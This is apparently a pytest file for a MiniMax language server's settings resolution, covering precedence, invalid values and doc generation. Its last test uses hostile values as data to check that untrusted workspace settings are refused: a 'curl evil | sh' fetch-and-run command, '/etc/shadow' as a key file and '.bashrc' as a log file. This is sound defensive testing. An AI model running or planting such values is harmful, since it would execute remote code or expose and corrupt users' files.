"""Settings: layering, shapes editors send, invalid values, and the generated docs."""

from __future__ import annotations

from pathlib import Path

import pytest

from minimax_lsp.server.settings import (
    Settings,
    resolve_settings,
    settings_markdown,
    unwrap_initialization_options,
)

REPO = Path(__file__).resolve().parents[2]


def test_defaults_when_nothing_is_given() -> None:
    resolved = resolve_settings()
    assert resolved.settings == Settings()
    assert resolved.problems == ()
    s = resolved.settings
    assert s.model == "MiniMax-M3"
    assert s.effective_base_url == "https://api.minimax.io/anthropic"
    assert s.task("completion").thinking == "disabled"
    assert s.task("completion").maxOutputTokens == 256
    assert s.task("chat").thinking == "adaptive"


def test_precedence_workspace_over_init_over_environment() -> None:
    s = resolve_settings(
        workspace={"model": "MiniMax-M2.7"},
        initialization={"model": "MiniMax-M2.5", "logLevel": "debug"},
        environ={"MINIMAX_MODEL": "MiniMax-M2.1", "MINIMAX_API": "openai"},
    ).settings
    assert s.model == "MiniMax-M2.7"
    assert s.logLevel == "debug"
    assert s.api == "openai"
    assert s.effective_base_url == "https://api.minimax.io/v1"


def test_nested_objects_merge_key_by_key_and_keep_per_task_defaults() -> None:
    s = resolve_settings(
        workspace={"tasks": {"chat": {"budget": 200_000}}},
        initialization={"tasks": {"chat": {"thinking": "disabled"}}},
    ).settings
    assert s.task("chat").budget == 200_000
    assert s.task("chat").thinking == "disabled"
    assert s.task("chat").maxOutputTokens == 16_384
    assert s.task("completion").budget == 6000


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        ({"api": "grpc"}, "api"),
        ({"maxFileBytes": -1}, "maxFileBytes"),
        ({"maxFileBytes": "lots"}, "maxFileBytes"),
        ({"ignore": "*.txt"}, "ignore"),
        ({"inlineCompletion": {"languages": {"python": "yes"}}}, "inlineCompletion.languages"),
        ({"tasks": {"explain": {"thinking": "enabled"}}}, "tasks.explain.thinking"),
        ({"spend": 5}, "spend"),
    ],
)
def test_invalid_values_fall_back_with_one_message(raw: dict[str, object], field: str) -> None:
    resolved = resolve_settings(workspace=raw)
    assert resolved.settings == Settings()
    assert len(resolved.problems) == 1
    assert resolved.problems[0].startswith(field)


def test_invalid_strong_value_falls_back_to_weaker_layer() -> None:
    resolved = resolve_settings(
        workspace={"showNotifications": "sometimes"},
        initialization={"showNotifications": "always"},
    )
    assert resolved.settings.showNotifications == "always"
    assert len(resolved.problems) == 1


def test_environment_strings_are_converted() -> None:
    s = resolve_settings(environ={"MINIMAX_BASE_URL": "http://127.0.0.1:9/anthropic/"}).settings
    assert s.effective_base_url == "http://127.0.0.1:9/anthropic"


def test_null_means_unset() -> None:
    s = resolve_settings(workspace={"model": None}, initialization={"model": "MiniMax-M2"}).settings
    assert s.model == "MiniMax-M2"


@pytest.mark.parametrize(
    "raw",
    [
        {"model": "MiniMax-M2.7"},
        {"minimax": {"model": "MiniMax-M2.7"}},
        {"settings": [{"model": "MiniMax-M2.7"}], "globalSettings": {"model": "x"}},
        {"settings": {"minimax": {"model": "MiniMax-M2.7"}}},
        {"globalSettings": {"model": "MiniMax-M2.7"}},
    ],
)
def test_initialization_option_shapes(raw: dict[str, object]) -> None:
    assert unwrap_initialization_options(raw)["model"] == "MiniMax-M2.7"


def test_non_object_initialization_options_are_ignored() -> None:
    assert resolve_settings(initialization=["nonsense"]).settings == Settings()


def test_docs_settings_md_is_generated_from_the_code() -> None:
    doc = (REPO / "docs" / "settings.md").read_text()
    assert doc == settings_markdown(), (
        "regenerate: python -m minimax_lsp.server.settings --markdown > docs/settings.md"
    )


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("apiKeyCommand", ["sh", "-c", "curl evil | sh"]),
        ("apiKeyFile", "/etc/shadow"),
        ("logFile", "/home/user/.bashrc"),
    ],
)
def test_trusted_settings_are_refused_from_workspace_configuration(key: str, value: object) -> None:
    # A cloned repository controls its project settings files; these fields run a
    # command or name a file, so only initializationOptions may set them.
    resolved = resolve_settings(workspace={key: value})
    assert getattr(resolved.settings, key) == getattr(Settings(), key)
    assert len(resolved.problems) == 1
    assert "only accepted from initializationOptions" in resolved.problems[0]
    from_init = resolve_settings(initialization={key: value}).settings
    assert getattr(from_init, key) == value
